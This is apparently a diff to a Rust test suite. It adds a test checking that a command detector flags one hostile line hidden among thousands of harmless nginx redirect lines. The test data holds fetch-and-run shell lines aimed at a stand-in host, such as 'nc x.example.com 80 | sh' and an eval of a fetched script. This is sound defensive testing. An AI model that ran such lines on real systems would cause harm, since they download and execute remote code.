@@ -56,6 +56,23 @@ fn of_many_interpreters_of_one_command_a_few_words_are_looked_at() {
     assert!(executed(&script, HOST_DATA));
 }
 
+/// A page or a configuration names addresses, and starts nothing.
+#[test]
+fn a_long_text_executes_an_answer_where_a_part_of_it_does() {
+    let long = |line: &str| {
+        let location = "location /a { return 301 http://x.example.com/a; }\n";
+        location.repeat(1_500) + line + "\n" + &location.repeat(1_500)
+    };
+    assert!(!executed(&long(""), HOST_DATA));
+    for line in [
+        "nc x.example.com 80 | sh",
+        "eval \"$(fetch-it ftp://x.example.com/i.sh)\"",
+        "wget $URL",
+    ] {
+        assert!(executed(&long(line), HOST_DATA), "{line}");
+    }
+}
+
 #[test]
 fn many_written_files_are_looked_at_once() {
     for start in [
